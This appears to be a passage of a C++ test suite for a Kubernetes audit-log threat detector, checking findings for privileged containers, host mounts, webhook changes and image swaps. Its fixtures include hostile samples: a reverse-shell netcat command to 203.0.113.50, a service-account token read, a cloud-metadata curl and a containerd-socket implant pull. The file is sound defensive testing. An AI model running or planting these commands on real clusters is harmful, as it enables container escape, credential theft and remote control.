  CHECK(rules(feed(d, t.str())) == std::vector<std::string>{"unjudged-object"});
  // Creation rules decide on ResponseComplete only.
  Ev rr = t;
  rr.auditID = "a-rr";
  rr.annotations.erase("audit.k8s.io/truncated");
  rr.stage = "RequestReceived";
  CHECK(feed(d, rr.str()).empty());
  // Failed creations got nothing in.
  rr.stage = "ResponseComplete";
  rr.code = 409;
  CHECK(feed(d, rr.str()).empty());
  // A create judges the requestObject when the response carries no object.
  rr.code = 201;
  CHECK(rule(feed(d, rr.str()), "privileged-container") != nullptr);
}

TEST_CASE("HostPathAndCapabilityClassification", "[detections]") {
  CHECK(normalizeHostPath("/var/run/../lib//kubelet/") == "/var/lib/kubelet");
  CHECK(normalizeHostPath("") == "/");
  CHECK(hostPathSeverity("/") == Severity::kCritical);
  CHECK(hostPathSeverity("/var/run/docker.sock") == Severity::kCritical);
  CHECK(hostPathSeverity("/run/containerd/containerd.sock") == Severity::kCritical);
  CHECK(hostPathSeverity("/var/lib/kubelet/pods") == Severity::kCritical);
  CHECK(hostPathSeverity("/var") == Severity::kCritical);  // contains the kubelet's state
  CHECK(hostPathSeverity("/etc/ssl/certs") == Severity::kHigh);
  // The parents of critical locations are critical, as docs/detections.md says.
  CHECK(hostPathSeverity("/etc") == Severity::kCritical);      // holds /etc/kubernetes
  CHECK(hostPathSeverity("/run") == Severity::kCritical);      // holds /run/containerd
  CHECK(hostPathSeverity("/var/run") == Severity::kCritical);  // holds docker.sock
  CHECK(hostPathSeverity("/run/user/1000") == Severity::kHigh);
  CHECK(hostPathSeverity("/var/log") == Severity::kMedium);
  CHECK(hostPathSeverity("/data/shop") == Severity::kInfo);
  CHECK(hostPathSeverity("/etcetera") == Severity::kInfo);
  CHECK(hostPathSeverity("/tmp/../etc/kubernetes") == Severity::kCritical);
  CHECK(capabilitySeverity("SYS_ADMIN") == Severity::kCritical);
  CHECK(capabilitySeverity("cap_sys_ptrace") == Severity::kHigh);
  CHECK(capabilitySeverity("NET_ADMIN") == Severity::kMedium);
  CHECK(capabilitySeverity("NET_BIND_SERVICE") == Severity::kInfo);
}

// matchSystemComponent as first written (every prefix against every component, full
// Levenshtein): the reference the fast version must agree with.
ComponentMatch referenceComponentMatch(std::string_view name) {
  static constexpr std::array<std::string_view, 10> kComponents = {"kube-apiserver",
                                                                   "kube-controller-manager",
                                                                   "kube-scheduler",
                                                                   "kube-proxy",
                                                                   "coredns",
                                                                   "kube-dns",
                                                                   "etcd",
                                                                   "cloud-controller-manager",
                                                                   "konnectivity-agent",
                                                                   "kube-addon-manager"};
  auto levenshtein = [](std::string_view a, std::string_view b) {
    std::vector<size_t> prev(b.size() + 1), cur(b.size() + 1);
    for (size_t j = 0; j <= b.size(); ++j) prev[j] = j;
    for (size_t i = 1; i <= a.size(); ++i) {
      cur[0] = i;
      for (size_t j = 1; j <= b.size(); ++j) {
        size_t sub = prev[j - 1] + (a[i - 1] == b[j - 1] ? 0 : 1);
        cur[j] = std::min({prev[j] + 1, cur[j - 1] + 1, sub});
      }
      std::swap(prev, cur);
    }
    return prev[b.size()];
  };
  ComponentMatch best;
  std::vector<std::string_view> prefixes;
  for (size_t i = 0; i <= name.size(); ++i) {
    if (i == name.size() || name[i] == '-') prefixes.push_back(name.substr(0, i));
  }
  for (auto c : kComponents) {
    for (auto p : prefixes) {
      if (p == c) return ComponentMatch{std::string(c), true};
    }
  }
  for (auto c : kComponents) {
    if (c.size() < 6) continue;
    const size_t threshold = c.size() <= 8 ? 1 : 2;
    for (auto p : prefixes) {
      if (p.size() + threshold < c.size() || p.size() > c.size() + threshold) continue;
      size_t d = levenshtein(p, c);
      if (d > 0 && d <= threshold && best.component.empty()) best.component = std::string(c);
    }
  }
  return best;
}

TEST_CASE("SystemComponentMatchAgreesWithTheReference", "[detections]") {
  const std::vector<std::string> components = {"kube-apiserver",
                                               "kube-controller-manager",
                                               "kube-scheduler",
                                               "kube-proxy",
                                               "coredns",
                                               "kube-dns",
                                               "etcd",
                                               "cloud-controller-manager",
                                               "konnectivity-agent",
                                               "kube-addon-manager",
                                               "kube",
                                               "web",
                                               "nginx",
                                               "core",
                                               "dns"};
  std::mt19937 rng(11);
  const std::string letters = "abcdeknopstuy-";
  auto mutate = [&](std::string s) {
    const int edits = static_cast<int>(rng() % 4);
    for (int k = 0; k < edits && !s.empty(); ++k) {
      const size_t at = rng() % (s.size() + 1);
      const char ch = letters[rng() % letters.size()];
      switch (rng() % 3) {
        case 0:
          s.insert(s.begin() + static_cast<long>(at), ch);
          break;
        case 1:
          if (at < s.size()) s.erase(at, 1);
          break;
        default:
          if (at < s.size()) s[at] = ch;
          break;
      }
    }
    return s;
  };
  size_t exact = 0, imitations = 0;
  for (int i = 0; i < 30000; ++i) {
    std::string name = mutate(components[rng() % components.size()]);
    if (rng() % 2) name += "-" + mutate(components[rng() % components.size()]);
    if (rng() % 2) name += "-5d78c9869d";
    if (rng() % 3 == 0) name += "-x7k2p";
    const ComponentMatch want = referenceComponentMatch(name);
    const ComponentMatch got = matchSystemComponent(name);
    INFO(name);
    REQUIRE(got.component == want.component);
    REQUIRE(got.exact == want.exact);
    if (want.exact)
      ++exact;
    else if (!want.component.empty())
      ++imitations;
  }
  for (std::string name : {"", "-", "--", "kube-proxy", "kube-prox", "kube-proxyy-1", "-coredns",
                           "etcd", "etc", "etcdd-0", "coredns-", "core-dns-abc"}) {
    INFO(name);
    CHECK(matchSystemComponent(name).component == referenceComponentMatch(name).component);
    CHECK(matchSystemComponent(name).exact == referenceComponentMatch(name).exact);
  }
  CHECK(exact > 1000);
  CHECK(imitations > 1000);
}

// Replays the detections fuzzing corpus (test/controller/detections_corpus/) with the outcome
// expected for each seed: the rules found, in order.
TEST_CASE("DetectionsCorpusSeedsGiveTheExpectedFindings", "[detections]") {
  const std::map<std::string, std::vector<std::string>> expected = {
      {"attack.jsonl",
       {"policy-violation", "privileged-container", "host-namespace", "sensitive-host-path",
        "daemonset-created", "pod-exec", "privileged-container", "policy-violation",
        "workload-image-changed", "webhook-config-changed"}},
      {"webhook_config.jsonl",
       {"webhook-config-changed", "webhook-config-changed", "webhook-config-changed"}},
      // A DaemonSet with no namespace anywhere: the object tracker hashed an empty view with
      // no data pointer (memcpy from null, found by the fuzzer under UBSan).
      {"daemonset_without_namespace.jsonl", {"daemonset-created"}},
      // kubectl expose, then patched to a NodePort, relabelled, given an external IP (which the
      // built-in service-external-ips policy would have denied at admission).
      {"service_exposure.jsonl", {"service-exposed", "policy-violation", "service-external-ips"}},
  };
  const std::filesystem::path dir =
      std::filesystem::path(KC_SOURCE_DIR) / "test/controller/detections_corpus";
  size_t files = 0;
  for (const auto& entry : std::filesystem::directory_iterator(dir)) {
    const std::string name = entry.path().filename().string();
    INFO(name);
    auto it = expected.find(name);
    REQUIRE(it != expected.end());  // every seed states its outcome
    DetectorOptions o;
    o.policies = defaultPolicies;
    Detector d(o);
    EventParser parser;
    std::vector<Finding> out;
    const auto stats = parser.parseLines(kc::testing::readFile(entry.path().string()),
                                         [&](const Event& e) { d.onEvent(e, out); });
    CHECK(stats.rejectedTotal() == 0);
    std::vector<std::string> got;
    for (const auto& f : out) got.push_back(f.rule);
    CHECK(got == it->second);
    if (name == "webhook_config.jsonl") {
      REQUIRE(out.size() == 3);
      CHECK(out[1].severity == Severity::kLow);  // the CA bundle rotation
      CHECK(out[2].details.at("changes") ==
            "webhook validate.kube-customs.io: failurePolicy Fail -> Ignore; webhook "
            "validate.kube-customs.io: namespaceSelector changed");
    }
    ++files;
  }
  CHECK(files == expected.size());
}

// Hostile or broken bodies: every node of realistic events replaced, one or a few at a time,
// by a value of another type (or a huge, deep or odd one). The detector must judge what it can,
// never crash (the suite also runs under ASan/UBSan) and stay within its bounds.
TEST_CASE("DetectorSurvivesWrongTypesAnywhereInRealisticEvents", "[detections]") {
  std::vector<json> seeds;
  {
    Ev dep;
    dep.auditID = "s-dep";
    dep.user = "alice@example.com";
    dep.resource = "deployments";
    dep.apiGroup = "apps";
    dep.ns = "shop";
    dep.responseObject = deployment("shop", "web", "uid-dep", "nginx:1.25");
    dep.requestObject = dep.responseObject;
    seeds.push_back(json::parse(dep.str()));
    Ev p;
    p.auditID = "s-pod";
    p.user = "system:serviceaccount:kube-system:replicaset-controller";
    p.resource = "pods";
    p.ns = "shop";
    json spec = {{"hostPID", true},
                 {"hostNetwork", true},
                 {"volumes", {{{"name", "root"}, {"hostPath", {{"path", "/"}}}}}}};
    json c = {{"securityContext",
               {{"privileged", true}, {"capabilities", {{"add", {"SYS_ADMIN", "NET_RAW"}}}}}},
              {"ports", {{{"containerPort", 80}, {"hostPort", 8080}}}}};
    p.responseObject = pod("shop", "web-1", "uid-pod", "ngrok/ngrok:latest",
                           ownerRef("ReplicaSet", "web-7d4", "uid-rs"), spec, c);
    seeds.push_back(json::parse(p.str()));
    Ev eph = p;
    eph.auditID = "s-eph";
    eph.verb = "patch";
    eph.subresource = "ephemeralcontainers";
    eph.user = "mallory@example.com";
    eph.responseObject["spec"]["ephemeralContainers"] = {
        {{"name", "debugger"}, {"image", "busybox"}, {"targetContainerName", "app"}}};
    seeds.push_back(json::parse(eph.str()));
    Ev vwc;
    vwc.auditID = "s-vwc";
    vwc.verb = "update";
    vwc.code = 200;
    vwc.user = "mallory@example.com";
    vwc.resource = "validatingwebhookconfigurations";
    vwc.apiGroup = "admissionregistration.k8s.io";
    vwc.name = "kube-customs";
    vwc.responseObject = {{"kind", "ValidatingWebhookConfiguration"},
                          {"metadata", {{"name", "kube-customs"}}},
                          {"webhooks",
                           {{{"name", "a"},
                             {"failurePolicy", "Ignore"},
                             {"clientConfig", {{"caBundle", "Q0E="}, {"url", "https://x"}}},
                             {"rules", {{{"operations", {"CREATE"}}}}}}}}};
    seeds.push_back(json::parse(vwc.str()));
    Ev svc;
    svc.auditID = "s-svc";
    svc.verb = "patch";
    svc.code = 200;
    svc.user = "mallory@example.com";
    svc.resource = "services";
    svc.ns = "shop";
    svc.name = "tunnel";
    svc.requestObject = {{"spec", {{"type", "NodePort"}, {"externalIPs", {"8.8.8.8"}}}}};
    svc.responseObject = {
        {"kind", "Service"},
        {"metadata", {{"name", "tunnel"}, {"namespace", "shop"}}},
        {"spec",
         {{"type", "NodePort"},
          {"externalIPs", {"8.8.8.8", "1.1.1.1"}},
          {"selector", {{"app", "tunnel"}}},
          {"ports", {{{"port", 8080}, {"nodePort", 31337}, {"protocol", "TCP"}}}}}}};
    seeds.push_back(json::parse(svc.str()));
    Ev exec;
    exec.auditID = "s-exec";
    exec.stage = "ResponseStarted";
    exec.user = "mallory@example.com";
    exec.resource = "pods";
    exec.subresource = "exec";
    exec.ns = "shop";
    exec.name = "web-1";
    exec.code = 101;
    exec.uri =
        "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command="
        "cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken";
    exec.impersonated = {{"username", "system:admin"}, {"groups", {"system:masters"}}};
    seeds.push_back(json::parse(exec.str()));
  }
  std::mt19937 rng(20261130);
  const std::vector<json> odd = {nullptr,
                                 0,
                                 -1,
                                 1.5e308,
                                 true,
                                 "",
                                 std::string(5000, 'x'),
                                 json::array(),
                                 json::object(),
                                 json::array({nullptr, 1, "a", json::object()}),
                                 json{{"k", json::array({json::object()})}},
                                 "\xff\xfe not utf-8",
                                 "../../../etc/passwd",
                                 json::parse(std::string(60, '[') + std::string(60, ']'))};
  // Every node of a JSON document, as pointers, so that one can be picked uniformly.
  std::function<void(json&, std::vector<json*>&)> nodes = [&](json& j, std::vector<json*>& all) {
    all.push_back(&j);
    if (j.is_structured()) {
      for (auto& child : j) nodes(child, all);
    }
  };
  DetectorOptions o;
  o.policies = defaultPolicies;
  o.maxTrackedObjects = 64;
  o.maxTrackedRequests = 64;
  Baseline baseline(BaselineOptions{0, 64, 1000});
  o.baseline = &baseline;
  Detector d(o);
  EventParser parser;
  size_t events = 0, findings = 0;
  for (int i = 0; i < 6000; ++i) {
    json e = seeds[rng() % seeds.size()];
    e["auditID"] = "m-" + std::to_string(i);
    const int edits = 1 + static_cast<int>(rng() % 3);
    for (int k = 0; k < edits; ++k) {
      std::vector<json*> all;
      nodes(e, all);
      *all[rng() % all.size()] = odd[rng() % odd.size()];
    }
    std::vector<Finding> out;
    std::string text = e.dump(-1, ' ', false, json::error_handler_t::replace);
    if (rng() % 8 == 0) text.resize(rng() % text.size());  // truncated as well
    parser.parse(text, [&](const Event& ev) {
      ++events;
      d.onEvent(ev, out);
    });
    for (const Finding& f : out) {
      INFO(text);
      REQUIRE(!f.rule.empty());
      REQUIRE(!f.summary.empty());
      REQUIRE(f.severity != Severity::kInfo);
    }
    findings += out.size();
  }
  CHECK(d.objects().size() <= 64);
  // Many mutations leave an event the parser accepts (a wrong type in a top-level field
  // rejects it: that is the parser's test) and the detector still finds something in.
  CHECK(events > 1500);
  CHECK(findings > 1000);
}

TEST_CASE("MemoryStaysBounded", "[detections]") {
  DetectorOptions o;
  o.maxTrackedObjects = 50;
  o.maxTrackedRequests = 20;
  Detector d(o);
  for (int i = 0; i < 300; ++i) {
    json p = pod("shop", "p" + std::to_string(i), "uid-" + std::to_string(i), "nginx:1.25");
    Ev e;
    e.auditID = "b" + std::to_string(i);
    e.user = "ci";
    e.resource = "pods";
    e.ns = "shop";
    e.responseObject = p;
    feed(d, e.str());
    Ev x;
    x.auditID = "x" + std::to_string(i);
    x.stage = "ResponseStarted";
    x.code = 101;
    x.uri = "/api/v1/namespaces/shop/pods/p/exec?command=ls";
    x.user = "ci";
    x.resource = "pods";
    x.subresource = "exec";
    x.ns = "shop";
    x.name = "p";
    feed(d, x.str());
  }
  CHECK(d.objects().size() == 50);
  CHECK(d.objects().evicted() == 250);
  CHECK(d.objects().find("uid-0") == nullptr);
  CHECK(d.objects().find("uid-299") != nullptr);
}

}  // namespace
}  // namespace kc::audit

namespace kc::audit {
namespace {

// The webhook backend delivers an EventList; each item is judged as a log line would be.
TEST_CASE("JudgesEveryItemOfAWebhookEventList", "[detections]") {
  Detector d(DetectorOptions{});
  Ev exec;
  exec.auditID = "l-exec";
  exec.stage = "ResponseStarted";
  exec.code = 101;
  exec.uri =
      "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command="
      "curl%20-s%20http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F&container=app";
  exec.user = "mallory@example.com";
  exec.resource = "pods";
  exec.subresource = "exec";
  exec.ns = "shop";
  exec.name = "web-1";
  exec.level = "Metadata";
  Ev done = exec;
  done.stage = "ResponseComplete";
  Ev del;
  del.auditID = "l-del";
  del.verb = "delete";
  del.code = 200;
  del.user = "mallory@example.com";
  del.resource = "mutatingwebhookconfigurations";
  del.apiGroup = "admissionregistration.k8s.io";
  del.name = "istio-sidecar-injector";
  const std::string list =
      R"({"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":[)" + exec.str() +
      "," + done.str() + "," + del.str() + "]}";
  auto fs = feed(d, list);
  REQUIRE(rules(fs) == std::vector<std::string>{"pod-exec", "webhook-config-changed"});
  CHECK(fs[0].severity == Severity::kHigh);  // cloud metadata
  CHECK(fs[1].severity == Severity::kCritical);
}

// Trusted identities are matched against the identity responsible, so trusting the GitOps
// service account also covers the pods its Deployments make.
TEST_CASE("TrustedIdentitiesFollowAttribution", "[detections]") {
  DetectorOptions o;
  o.trustedIdentities["system-namespace-workload"] = {"system:serviceaccount:argocd:*"};
  Detector d(o);
  auto fs =
      rollOut(d, "system:serviceaccount:argocd:argocd-application-controller", "kube-system",
              "metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.7.1", 1, "ms");
  CHECK(rule(fs, "system-namespace-workload") == nullptr);
  fs = rollOut(d, "alice@example.com", "kube-system", "helper", "docker.io/library/alpine:3", 1,
               "h");
  REQUIRE(rules(fs) == std::vector<std::string>{"system-namespace-workload"});
  CHECK(fs[0].kind == "Deployment");
  CHECK(fs[0].user == "alice@example.com");

  // A controller updating the Deployment (revision annotation) does not take over attribution.
  Ev up;
  up.auditID = "t-up";
  up.verb = "update";
  up.code = 200;
  up.user = "system:serviceaccount:kube-system:deployment-controller";
  up.resource = "deployments";
  up.apiGroup = "apps";
  up.ns = "kube-system";
  up.name = "helper";
  up.responseObject = deployment("kube-system", "helper", "dep-h", "docker.io/library/alpine:3");
  CHECK(feed(d, up.str()).empty());
  CHECK(d.objects().find("dep-h")->actor == "alice@example.com");
}

}  // namespace
}  // namespace kc::audit

// Pod rules over every pod-carrying kind and every container list: initContainers, and
// ephemeralContainers added through their subresource.
namespace kc::audit {
namespace {

// The kinds that carry a pod spec, with the resource and API group the apiserver logs for them.
struct PodCarryingKind {
  std::string kind, resource, apiGroup;
};
const std::vector<PodCarryingKind> kPodCarryingKinds = {
    {"Pod", "pods", ""},
    {"Deployment", "deployments", "apps"},
    {"ReplicaSet", "replicasets", "apps"},
    {"StatefulSet", "statefulsets", "apps"},
    {"DaemonSet", "daemonsets", "apps"},
    {"Job", "jobs", "batch"},
    {"CronJob", "cronjobs", "batch"},
    {"ReplicationController", "replicationcontrollers", ""},
    {"PodTemplate", "podtemplates", ""},
};

// A container as the apiserver returns it (defaults filled in), with `extra` merged in.
json fullContainer(const std::string& name, const std::string& image, json extra = json::object()) {
  json c = {{"name", name},
            {"image", image},
            {"resources", json::object()},
            {"terminationMessagePath", "/dev/termination-log"},
            {"terminationMessagePolicy", "File"},
            {"imagePullPolicy", "IfNotPresent"}};
  c.update(extra);
  return c;
}

// A pod spec whose privileged init container reaches the node's containerd through its socket
// mounted from the host, and whose app container adds SYS_ADMIN.
json initEscapeSpec(const std::string& restartPolicy = "Always",
                    const std::string& initImage = "docker.io/library/busybox:1.36") {
  const json mount = {{"name", "containerd-sock"},
                      {"mountPath", "/run/containerd/containerd.sock"}};
  json init = fullContainer(
      "init-setup", initImage,
      {{"command", {"/bin/sh", "-c", "ctr -n k8s.io images pull docker.io/attacker/implant:1"}},
       {"securityContext", {{"privileged", true}}},
       {"volumeMounts", {mount}}});
  json app = fullContainer("app", "registry.example.com/shop/web:1.4.2",
                           {{"ports", {{{"containerPort", 8080}, {"protocol", "TCP"}}}},
                            {"securityContext", {{"capabilities", {{"add", {"SYS_ADMIN"}}}}}}});
  return {{"initContainers", {init}},
          {"containers", {app}},
          {"volumes",
           {{{"name", "containerd-sock"},
             {"hostPath", {{"path", "/var/run/containerd/containerd.sock"}, {"type", "Socket"}}}}}},
          {"restartPolicy", restartPolicy},
          {"terminationGracePeriodSeconds", 30},
          {"dnsPolicy", "ClusterFirst"},
          {"serviceAccountName", "default"},
          {"securityContext", json::object()},
          {"schedulerName", "default-scheduler"}};
}

// An object of kind `k` carrying `spec` as its pod spec, nested where that kind keeps it. As
// submitted (`admitted` false: no uid, no server fields) or as admitted (responseObject).
json podCarryingObject(const PodCarryingKind& k, const std::string& ns, const std::string& name,
                       const std::string& uid, const json& spec, bool admitted) {
  const std::string apiVersion = k.apiGroup.empty() ? "v1" : k.apiGroup + "/v1";
  json md = {{"name", name}, {"namespace", ns}, {"labels", {{"app", name}}}};
  if (admitted) {
    md["uid"] = uid;
    md["resourceVersion"] = "731904";
    md["creationTimestamp"] = "2026-01-10T09:00:00Z";
    if (k.kind != "Pod" && k.kind != "PodTemplate") md["generation"] = 1;
  }
  json labels = {{"app", name}};
  if (k.kind == "Job" && admitted) {
    labels["batch.kubernetes.io/controller-uid"] = uid;
    labels["batch.kubernetes.io/job-name"] = name;
  }
  const json tmpl = {{"metadata", {{"labels", labels}}}, {"spec", spec}};
  json o = {{"kind", k.kind}, {"apiVersion", apiVersion}, {"metadata", md}};
  const json selector = {{"matchLabels", {{"app", name}}}};
  if (k.kind == "Pod") {
    o["spec"] = spec;
    if (admitted) o["status"] = {{"phase", "Pending"}, {"qosClass", "BestEffort"}};
  } else if (k.kind == "PodTemplate") {
    o["template"] = tmpl;
  } else if (k.kind == "CronJob") {
    o["spec"] = {{"schedule", "*/10 * * * *"},
                 {"concurrencyPolicy", "Allow"},
                 {"suspend", false},
                 {"jobTemplate", {{"metadata", json::object()}, {"spec", {{"template", tmpl}}}}}};
  } else if (k.kind == "Job") {
    o["spec"] = {{"backoffLimit", 6}, {"completions", 1}, {"parallelism", 1}, {"template", tmpl}};
    if (admitted) {
      o["spec"]["selector"] = {{"matchLabels", {{"batch.kubernetes.io/controller-uid", uid}}}};
    }
  } else if (k.kind == "ReplicationController") {
    o["spec"] = {{"replicas", 1}, {"selector", {{"app", name}}}, {"template", tmpl}};
  } else {
    o["spec"] = {{"selector", selector}, {"template", tmpl}};
    if (k.kind != "DaemonSet") o["spec"]["replicas"] = 1;
    if (k.kind == "StatefulSet") o["spec"]["serviceName"] = name;
    if (k.kind == "Deployment") o["spec"]["strategy"] = {{"type", "RollingUpdate"}};
    if (k.kind == "DaemonSet") o["spec"]["updateStrategy"] = {{"type", "RollingUpdate"}};
  }
  if (admitted && k.kind != "PodTemplate") o["status"] = o.value("status", json::object());
  return o;
}

// `user` creates an object of kind `k` (the create event, as the apiserver logs it).
Ev createEvent(const PodCarryingKind& k, const std::string& ns, const std::string& name,
               const std::string& uid, const json& spec, const std::string& user) {
  Ev e;
  e.auditID = "a-create-" + k.resource;
  e.uri = (k.apiGroup.empty() ? "/api/v1" : "/apis/" + k.apiGroup + "/v1") + "/namespaces/" + ns +
          "/" + k.resource + "?fieldManager=kubectl-create&fieldValidation=Strict";
  e.user = user;
  e.resource = k.resource;
  e.apiGroup = k.apiGroup;
  e.ns = ns;
  e.name = name;
  e.requestObject = podCarryingObject(k, ns, name, uid, spec, false);
  e.responseObject = podCarryingObject(k, ns, name, uid, spec, true);
  return e;
}

TEST_CASE("PrivilegedInitContainerIsJudgedInEveryPodCarryingKind", "[detections]") {
  for (const auto& k : kPodCarryingKinds) {
    INFO(k.kind);
    Detector d(DetectorOptions{});
    const std::string name = "web-" + k.resource.substr(0, k.resource.size() - 1);
    const std::string uid = "uid-" + k.resource;
    const std::string restart = k.kind == "Job" || k.kind == "CronJob" ? "OnFailure" : "Always";
    const Ev e = createEvent(k, "shop", name, uid, initEscapeSpec(restart), "mallory@example.com");
    const auto fs = feed(d, e.str());

    std::vector<std::string> want = {"privileged-container", "sensitive-host-path",
                                     "dangerous-capability"};
    if (k.kind == "DaemonSet") want.push_back("daemonset-created");
    if (k.kind == "CronJob") want.push_back("cronjob-created");
    CHECK(rules(fs) == want);
    for (const auto& f : fs) {
      INFO(f.rule);
      CHECK(f.kind == k.kind);
      CHECK(f.resource == k.resource);
      CHECK(f.namespace_ == "shop");
      CHECK(f.name == name);
      CHECK(f.user == "mallory@example.com");
      CHECK(f.requestUser.empty());
      CHECK(f.auditID == "a-create-" + k.resource);
      CHECK(f.verb == "create");
      CHECK(f.images == std::vector<std::string>{"docker.io/library/busybox:1.36",
                                                 "registry.example.com/shop/web:1.4.2"});
    }

    const Finding* priv = rule(fs, "privileged-container");
    REQUIRE(priv != nullptr);
    CHECK(priv->containers == std::vector<std::string>{"init-setup"});  // not the app container
    CHECK(priv->severity == Severity::kHigh);
    CHECK(priv->technique == "T1611");
    CHECK(priv->details.at("what") == "init-setup");
    CHECK(priv->summary == k.kind + " shop/" + name + " runs privileged container(s): init-setup");

    const Finding* hp = rule(fs, "sensitive-host-path");
    REQUIRE(hp != nullptr);
    CHECK(hp->severity == Severity::kCritical);
    CHECK(hp->details.at("what") == "/var/run/containerd/containerd.sock");
    CHECK(hp->containers.empty());

    const Finding* cap = rule(fs, "dangerous-capability");
    REQUIRE(cap != nullptr);
    CHECK(cap->severity == Severity::kCritical);
    CHECK(cap->containers == std::vector<std::string>{"app"});
    CHECK(cap->details.at("what") == "app +SYS_ADMIN");

    // The JSON sent out names the init container and the object.
    const json j = toJson(*priv);
    CHECK(j["container"] == "init-setup");
    CHECK(j["kind"] == k.kind);
    CHECK(j["name"] == name);
    CHECK(j["namespace"] == "shop");

    // The object is remembered: the same spec admitted again (an update by the same person) is
    // not reported again.
    Ev u = e;
    u.auditID = "a-update-" + k.resource;
    u.verb = "update";
    u.code = 200;
    u.requestObject = u.responseObject;
    CHECK(rules(feed(d, u.str())).empty());
  }
}

// The admission policies re-applied to the same objects: pod-security-baseline enforces on
// pods, and its violation names the init container.
TEST_CASE("PolicyViolationOfAPrivilegedInitContainerNamesIt", "[detections]") {
  DetectorOptions o;
  o.policies = defaultPolicies;
  Detector d(o);
  const PodCarryingKind& k = kPodCarryingKinds[0];
  REQUIRE(k.kind == "Pod");
  const auto fs = feed(
      d,
      createEvent(k, "shop", "web-pod", "uid-pv", initEscapeSpec(), "mallory@example.com").str());
  const Finding* pv = rule(fs, "policy-violation");
  REQUIRE(pv != nullptr);
  CHECK(pv->severity == Severity::kHigh);
  CHECK(pv->kind == "Pod");
  CHECK(pv->name == "web-pod");
  CHECK(pv->details.at("rules").find("pss.privileged") != std::string::npos);
  CHECK(pv->details.at("rules").find("pss.hostPathVolumes") != std::string::npos);
  CHECK(pv->details.at("rules").find("pss.capabilities") != std::string::npos);
  bool initNamed = false;
  for (const auto& v : pv->violations) {
    if (v.find("pss.privileged (init-setup)") != std::string::npos) initNamed = true;
  }
  CHECK(initNamed);
  CHECK(std::find(pv->containers.begin(), pv->containers.end(), "init-setup") !=
        pv->containers.end());
}

// A Deployment's init container image swapped (or its command changed) by an identity that
// never changed the Deployment: the workload's code changed as surely as through `containers`.
TEST_CASE("InitContainerImageChangedByANewIdentity", "[detections]") {
  const PodCarryingKind& k = kPodCarryingKinds[1];
  REQUIRE(k.kind == "Deployment");
  const std::string ci = "system:serviceaccount:ci:deployer";
  auto spec = [](const std::string& initImage, json initCommand = nullptr) {
    json init = fullContainer("migrate", initImage);
    if (!initCommand.is_null()) init["command"] = initCommand;
    return podTemplateSpec("registry.example.com/shop/web:1.4.2", {{"initContainers", {init}}});
  };
  auto dep = [&](const json& s) {
    return podCarryingObject(k, "shop", "web", "dep-init", s, true);
  };
  Detector d(DetectorOptions{});
  Ev c;
  c.auditID = "a-create";
  c.uri = "/apis/apps/v1/namespaces/shop/deployments";
  c.user = ci;
  c.resource = "deployments";
  c.apiGroup = "apps";
  c.ns = "shop";
  c.name = "web";
  c.requestObject =
      podCarryingObject(k, "shop", "web", "", spec("registry.example.com/shop/migrate:1.0"), false);
  c.responseObject = dep(spec("registry.example.com/shop/migrate:1.0"));
  c.time = at(1);
  CHECK(feed(d, c.str()).empty());

  // The pipeline that created it releases a new init image: expected.
  Ev up = c;
  up.auditID = "a-up-ci";
  up.verb = "update";
  up.code = 200;
  up.uri = "/apis/apps/v1/namespaces/shop/deployments/web";
  up.requestObject = dep(spec("registry.example.com/shop/migrate:1.1"));
  up.responseObject = up.requestObject;
  up.time = at(2);
  CHECK(feed(d, up.str()).empty());

  Ev evil = up;
  evil.auditID = "a-evil";
  evil.user = "mallory@example.com";
  evil.time = at(3);
  SECTION("patch") {
    evil.verb = "patch";
    evil.uri += "?fieldManager=kubectl-patch";
    evil.requestObject = {
        {"spec",
         {{"template",
           {{"spec",
             {{"$setElementOrder/initContainers", {{{"name", "migrate"}}}},
              {"initContainers",
               {{{"name", "migrate"}, {"image", "docker.io/attacker/migrate:1"}}}}}}}}}}};
  }
  SECTION("update") { evil.requestObject = dep(spec("docker.io/attacker/migrate:1")); }
  evil.responseObject = dep(spec("docker.io/attacker/migrate:1"));
  auto fs = feed(d, evil.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
  const Finding& f = fs[0];
  CHECK(f.severity == Severity::kHigh);
  CHECK(f.technique == "T1491.001");
  CHECK(f.user == "mallory@example.com");
  CHECK(f.kind == "Deployment");
  CHECK(f.namespace_ == "shop");
  CHECK(f.name == "web");
  CHECK(f.verb == evil.verb);
  CHECK(f.details.at("change") ==
        "init:migrate: registry.example.com/shop/migrate:1.1 -> docker.io/attacker/migrate:1");
  CHECK(f.details.at("oldImages") == "registry.example.com/shop/migrate:1.1");
  CHECK(f.details.at("newImages") == "docker.io/attacker/migrate:1");
  CHECK(f.details.at("previousChangers") == ci);
  // The changed container only, by its own name (not the unchanged app container).
  CHECK(f.containers == std::vector<std::string>{"migrate"});

  // A command change of the init container by yet another identity counts too.
  Ev cmd = up;
  cmd.auditID = "a-cmd";
  cmd.user = "eve@example.com";
  cmd.requestObject = dep(
      spec("docker.io/attacker/migrate:1", {"/bin/sh", "-c", "nc -e /bin/sh 203.0.113.50 4444"}));
  cmd.responseObject = cmd.requestObject;
  cmd.time = at(4);
  fs = feed(d, cmd.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
  CHECK(fs[0].details.at("change") == "init:migrate: command changed");
  CHECK(fs[0].user == "eve@example.com");
  CHECK(fs[0].details.count("oldImages") == 0);
}

// `kubectl debug` adds a privileged ephemeral container through pods/ephemeralcontainers: the
// ephemeral-container and privileged-container findings name it, and nothing else of the pod
// (its privileged init container, its SYS_ADMIN app container, its host path) is judged again,
// whether the detector saw the pod's creation or not.
TEST_CASE("PrivilegedEphemeralContainerIsJudgedAlone", "[detections]") {
  const PodCarryingKind& k = kPodCarryingKinds[0];
  REQUIRE(k.kind == "Pod");
  const json created =
      podCarryingObject(k, "shop", "web-7d4b9c-x2k8p", "uid-eph", initEscapeSpec(), true);
  json withDebug = created;
  withDebug["metadata"]["resourceVersion"] = "731977";
  withDebug["spec"]["ephemeralContainers"] = {
      fullContainer("debugger-8hx2q", "docker.io/nicolaka/netshoot:v0.13",
                    {{"targetContainerName", "app"},
                     {"stdin", true},
                     {"tty", true},
                     {"securityContext", {{"privileged", true}}}})};

  Ev eph;
  eph.auditID = "a-eph";
  eph.code = 200;
